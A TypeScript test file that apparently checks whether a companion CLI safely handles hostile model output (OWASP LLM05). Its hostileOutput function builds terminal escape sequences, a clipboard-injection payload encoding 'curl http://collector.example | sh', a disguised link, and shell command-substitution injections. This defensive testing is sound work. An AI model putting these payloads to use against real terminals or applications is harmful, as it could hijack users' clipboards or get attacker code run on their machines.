import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { Sandbox, filesUnder } from './sandbox.js';
import { startRecordingServer } from './recording-server.js';
import { useRecordingServer } from './model-setup.js';
import { check, type CheckResult, type CliRunner } from './types.js';
import type { StandIn } from './suite.js';

/** Terminal control: CSI/OSC/ESC sequences, BEL, other C0 (not tab/newline) and C1 controls. */
function hasControl(text: string): boolean {
  for (const ch of text) {
    const c = ch.codePointAt(0) ?? 0;
    if ((c < 0x20 && c !== 0x09 && c !== 0x0a) || (c >= 0x7f && c <= 0x9f)) return true;
  }
  return false;
}

/** Model output that tries to take over the terminal and get a shell command run. */
export function hostileOutput(sentinel: string): string {
  return [
    'Your week was calm and steady, with walks and reading in the evenings.',
    '\u001b]52;c;' + Buffer.from('curl http://collector.example | sh').toString('base64') + '\u0007',
    '\u001b[2J\u001b[H\u001b]0;owned\u0007',
    '\u001b]8;;http://collector.example/\u0007click here\u001b]8;;\u0007',
    `Run this to continue: $(touch ${sentinel}) and \`touch ${sentinel}\`; touch ${sentinel}`,
    '\u009b31m red \u001b[0m and a bell \u0007 done.',
  ].join(' ');
}

/** The JSON re-serialised (so escapes show as \\u00xx), or '' when it is not valid JSON. */
function reserialise(text: string): string {
  try {
    return JSON.stringify(JSON.parse(text));
  } catch {
    return '';
  }
}

/**
 * LLM05 improper output handling: model output carrying terminal escapes, OSC sequences (clipboard,
 * title, hyperlinks) and shell commands is stripped before display, never executed, never stored raw.
 */
export async function outputHandling(runner: CliRunner, standIns: StandIn[]): Promise<CheckResult[]> {
  const checks: CheckResult[] = [];
  for (const standIn of standIns) {
    const box = await Sandbox.create(runner);
    const server = await startRecordingServer();
    try {
      const sentinel = path.join(box.dir, `pwned-${randomBytes(4).toString('hex')}`);
      const reply = hostileOutput(sentinel);
      server.setReply(() => reply);
      let env: Record<string, string> = {};
      if (standIn === 'openai') await useRecordingServer(box, server, 'local');
      else env = { COMPANION_PROVIDER: 'mock', COMPANION_MOCK_FIXTURE: box.file('mock.json', JSON.stringify({ default: reply })) };
      for (const t of ['Long walk by the river and a quiet dinner.', 'Read two chapters before bed, slept well.']) await box.run(['write', t]);
      const runs = [await box.run(['summary'], { env }), await box.run(['summary', '--json'], { env }), await box.run(['ask', 'how was my week?'], { env })];
      const called = standIn === 'mock' || server.chats.length > 0;
      const codes = runs.map((r) => r.code).join(', ');
      const dirty = runs.filter((r) => hasControl(r.stdout) || hasControl(r.stderr)).length;
      checks.push(check(`${standIn}: no terminal control sequence reaches the screen`, called && runs.every((r) => r.code === 0) && dirty === 0,
        `summary, summary --json, ask exit ${codes}; ${dirty} of ${runs.length} outputs carry control characters${standIn === 'openai' ? `; ${server.chats.length} model request(s)` : ''}`));
      const json = runs[1]?.code === 0 ? reserialise(runs[1].stdout) : '';
      checks.push(check(`${standIn}: JSON output carries no escaped control characters`, json !== '' && !/\\u00(1b|07|9b)/i.test(json), json === '' ? 'summary --json failed' : 'no \\u001b, \\u0007 or \\u009b in the JSON'));
      checks.push(check(`${standIn}: shell commands in output are never run`, !fs.existsSync(sentinel), fs.existsSync(sentinel) ? `${path.basename(sentinel)} was created` : `${path.basename(sentinel)} does not exist after 3 commands`));
      const stored = filesUnder(box.dataDir).filter((f) => { const b = fs.readFileSync(f); return b.includes('collector.example') || b.includes('\u001b]52'); });
      checks.push(check(`${standIn}: raw model output is not stored in clear`, stored.length === 0, stored.length ? `found in ${stored.map((f) => path.relative(box.dataDir, f)).join(', ')}` : `not in any of ${filesUnder(box.dataDir).length} data files`));
    } finally {
      await server.close();
      box.dispose();
    }
  }
  return checks;
}
